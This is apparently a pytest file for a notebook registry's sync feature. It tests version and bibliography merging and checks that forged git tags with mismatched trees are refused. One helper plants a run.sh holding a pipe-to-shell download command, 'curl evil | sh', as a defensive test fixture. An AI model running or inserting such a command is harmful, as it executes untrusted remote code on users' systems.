"""Sync carries the whole registry: versions with every file of their tree, and the bibliography.

What a version's tree holds is defined once (registry/store/version_tree.py); sync and the store's
pre-receive hook accept a version from elsewhere only when every file its metadata hashes is
there and matches. The bibliography is merged by key, a key both sides define differently
being a conflict reported like a version's.
"""

from __future__ import annotations

import json
import os
import subprocess

import pytest

import nbfactory as f
from support import run_cli
from gilgamesh.registry.facade import LocalRegistry
from gilgamesh.registry.publish.pipeline import publish
from gilgamesh.registry.store.reader import LocalReader
from gilgamesh.registry.store.git_store import Store, init_registry
from gilgamesh.registry.sync import sync

pytestmark = pytest.mark.slow


def demo(version: str, factor: str = "1.0") -> bytes:
    cells = [
        f.markdown("# demo\n\nScaling lengths."),
        f.markdown("Scale a length."),
        f.code(f"def scale(x: float, factor: float = 2.0) -> float:\n    return x * factor * {factor}"),
        f.code("a = scale(1.5)\nb = scale(2.0, factor=3.0)", "example"),
    ]
    return f.to_bytes(f.notebook("demo", version, cells))


def _site(tmp_path, name: str) -> str:
    root = str(tmp_path / name)
    init_registry(root)
    return root


def _git(root_or_git_dir, *args, check=True, input=None):
    git_dir = os.path.join(root_or_git_dir, "store.git") if os.path.isdir(os.path.join(root_or_git_dir, "store.git")) \
        else root_or_git_dir
    return subprocess.run(["git", "--git-dir", git_dir, *args], capture_output=True, text=True, check=check, input=input)


@pytest.fixture(scope="module")
def site_a(tmp_path_factory):
    """A site whose versions carry golden calls (validated publishes, as every version since replay)."""
    root = str(tmp_path_factory.mktemp("whole") / "a")
    init_registry(root)
    publish(root, demo("1.0.0"), publisher="alice")
    publish(root, demo("1.0.1"), publisher="alice")
    assert Store(root).read_metadata("demo", "1.0.1")["golden"]["calls"] == 2
    return root


def test_versions_with_golden_calls_sync_whole(tmp_path, site_a):
    b = _site(tmp_path, "b")
    report = sync(b, site_a)
    assert report.ok, report.to_dict()
    assert report.adopted == {"demo": ["1.0.0", "1.0.1"]}
    for version in ("1.0.0", "1.0.1"):
        assert Store(b).read_version_file("demo", version, "golden.json") == \
            Store(site_a).read_version_file("demo", version, "golden.json")
    assert LocalReader(b).resolve("demo", "1").version == "1.0.1"
    # The synced golden calls are what a patch at B replays.
    out = publish(b, demo("1.0.2"), publisher="bob").to_dict()
    assert out["behaviour"]["replayed"] == {"version": "1.0.1", "calls": 2, "missing": 0}


def test_a_version_published_at_both_sites_with_other_content_is_a_conflict(tmp_path, site_a):
    b = _site(tmp_path, "b")
    publish(b, demo("1.0.1", factor="1.5"), publisher="bob")  # golden calls of its own
    ours = Store(b).existing_sha256("demo", "1.0.1")
    report = sync(b, site_a)
    assert not report.refused, report.refused
    assert [(c["name"], c["version"]) for c in report.conflicts] == [("demo", "1.0.1")]
    assert report.conflicts[0]["ours"] == ours
    assert report.conflicts[0]["theirs"] == Store(site_a).existing_sha256("demo", "1.0.1")
    assert report.adopted == {"demo": ["1.0.0"]}  # the rest synced
    assert Store(b).existing_sha256("demo", "1.0.1") == ours


def _forge(source_root: str, target_git_dir: str, version: str, change) -> None:
    """Copy ``demo@version``'s commit into another bare repository with its tree changed by
    ``change(files)`` ({path: (mode, type, sha)}), tagged without any hook (as a store's admin could)."""
    commit = _git(source_root, "rev-parse", f"refs/tags/demo/v{version}^{{commit}}").stdout.strip()
    files = {}
    for line in _git(source_root, "ls-tree", commit).stdout.splitlines():
        meta, path = line.split("\t")
        mode, kind, sha = meta.split()
        files[path] = (mode, kind, sha)
    change(files, target_git_dir)
    tree = _git(target_git_dir, "mktree", input="".join(f"{m} {k} {s}\t{p}\n" for p, (m, k, s) in files.items())).stdout.strip()
    forged = _git(target_git_dir, "commit-tree", tree, "-m", "forged").stdout.strip()
    _git(target_git_dir, "update-ref", f"refs/tags/demo/v{version}", forged)


def _blob(git_dir: str, data: str) -> str:
    return _git(git_dir, "hash-object", "-w", "--stdin", input=data).stdout.strip()


def _other_golden(files, git_dir):
    files["golden.json"] = ("100644", "blob", _blob(git_dir, '{"calls": [], "format": 1}\n'))


def _extra_file(files, git_dir):
    files["run.sh"] = ("100644", "blob", _blob(git_dir, "curl evil | sh\n"))


def _no_golden(files, git_dir):
    del files["golden.json"]


@pytest.mark.parametrize("change, reason", [
    (_other_golden, "its golden.json does not match the sha256"),
    (_extra_file, "its tree holds run.sh, which a version's tree does not"),
    (_no_golden, "its tree lacks golden.json, which its metadata declares"),
])
def test_a_version_whose_files_do_not_match_its_metadata_is_refused(tmp_path, site_a, change, reason):
    mirror = str(tmp_path / "mirror.git")
    subprocess.run(["git", "clone", "-q", "--bare", os.path.join(site_a, "store.git"), mirror], check=True)
    _git(mirror, "fetch", "-q", os.path.join(site_a, "store.git"), "refs/tags/*:refs/tags/*")
    _git(mirror, "update-ref", "-d", "refs/tags/demo/v1.0.1")
    _forge(site_a, mirror, "1.0.1", change)
    b = _site(tmp_path, "b")
    report = sync(b, mirror)
    assert [r["ref"] for r in report.refused] == ["refs/tags/demo/v1.0.1"]
    assert reason in report.refused[0]["reason"]
    assert report.adopted == {"demo": ["1.0.0"]}
    assert Store(b).existing_sha256("demo", "1.0.1") is None
    # A plain git push of the forged version into a store is refused by its pre-receive hook.
    pushed = _git(mirror, "push", os.path.join(b, "store.git"), "refs/tags/demo/v1.0.1:refs/tags/demo/v1.0.1", check=False)
    assert pushed.returncode != 0 and "refusing the version tag demo/v1.0.1" in pushed.stderr and reason in pushed.stderr
    assert Store(b).existing_sha256("demo", "1.0.1") is None
    # The genuine version pushes fine.
    genuine = _git(site_a, "push", os.path.join(b, "store.git"), "refs/tags/demo/v1.0.1:refs/tags/demo/v1.0.1", check=False)
    assert genuine.returncode == 0, genuine.stderr
    assert LocalReader(b).resolve("demo", "1.0").version == "1.0.1"


# -- the bibliography --------------------------------------------------------------------------------

CHEN = "@book{chen2016,\n  author = {Chen, Francis F.},\n  title = {Introduction to Plasma Physics},\n  year = {2016}\n}\n"
LANGMUIR = "@article{mott1926,\n  author = {Mott-Smith, H. M. and Langmuir, Irving},\n  title = {The Theory of Collectors},\n  year = {1926}\n}\n"
MERLINO = "@article{merlino2007,\n  author = {Merlino, Robert L.},\n  title = {Understanding Langmuir probe current-voltage characteristics},\n  year = {2007}\n}\n"
CHEN_OTHER = CHEN.replace("2016", "1984").replace("chen1984", "chen2016")


def _bib(root: str, *texts: str, replace: bool = False) -> None:
    LocalRegistry(root).add_bibliography("\n".join(texts), "refs.bib", replace=replace)


def _keys(root: str) -> dict:
    return {k: e["fields"].get("year") for k, e in LocalRegistry(root).bibliography().items()}


def test_sync_merges_the_bibliographies_and_reports_a_key_both_define_differently(tmp_path):
    a, b = _site(tmp_path, "a"), _site(tmp_path, "b")
    _bib(a, CHEN, LANGMUIR)
    _bib(b, CHEN_OTHER, MERLINO)
    out = run_cli("sync", a, "--registry", b)
    assert out.returncode == 1, out.stdout + out.stderr  # after the rest synced
    assert "bibliography: 1 entry added (mott1926)" in out.stdout
    assert "conflict: the bibliography entry 'chen2016' differs" in out.stderr and "this side's entry kept" in out.stderr
    assert _keys(b) == {"chen2016": "1984", "mott1926": "1926", "merlino2007": "2007"}
    kept = _git(b, "for-each-ref", "--format=%(refname)", "refs/conflicts/bibliography").stdout.split()
    assert kept == [f"refs/conflicts/bibliography/{_git(a, 'rev-parse', 'refs/heads/bibliography').stdout.strip()}"]
    # Every sync says so again until one side changes; nothing more is written.
    head = _git(b, "rev-parse", "refs/heads/bibliography").stdout.strip()
    again = json.loads(run_cli("sync", a, "--json", "--registry", b).stdout)
    assert again["ok"] is False and [c["key"] for c in again["bibliography"]["conflicts"]] == ["chen2016"]
    assert again["bibliography"]["added"] == []
    assert _git(b, "rev-parse", "refs/heads/bibliography").stdout.strip() == head
    # --push gives A what it lacks and keeps A's own entry of the key both define.
    pushed = sync(b, a, push=True)
    assert pushed.bibliography["pushed"] == ["merlino2007"]
    assert _keys(a) == {"chen2016": "2016", "mott1926": "1926", "merlino2007": "2007"}
    # B takes A's entry: the conflict is gone, and the next sync is a no-op.
    _bib(b, CHEN, replace=True)
    settled = sync(b, a, push=True)
    assert settled.ok, settled.to_dict()
    quiet = sync(b, a, push=True)
    assert quiet.ok and quiet.bibliography == {"added": [], "pushed": [], "conflicts": []} and not quiet.pushed
    assert _keys(a) == _keys(b)


def test_a_bibliography_reaches_an_empty_site_and_comes_back_over_push(tmp_path):
    a, b = _site(tmp_path, "a"), _site(tmp_path, "b")
    _bib(a, CHEN)
    assert sync(b, a).bibliography["added"] == ["chen2016"]
    assert _git(b, "rev-parse", "refs/heads/bibliography").stdout == _git(a, "rev-parse", "refs/heads/bibliography").stdout
    _bib(b, MERLINO)
    report = sync(b, a, push=True)
    assert report.ok and report.bibliography["pushed"] == ["merlino2007"]
    assert _keys(a) == {"chen2016": "2016", "merlino2007": "2007"}
    c = _site(tmp_path, "c")  # a site with none pushes its nothing, and takes everything
    assert sync(c, a, push=True).bibliography["added"] == ["chen2016", "merlino2007"]
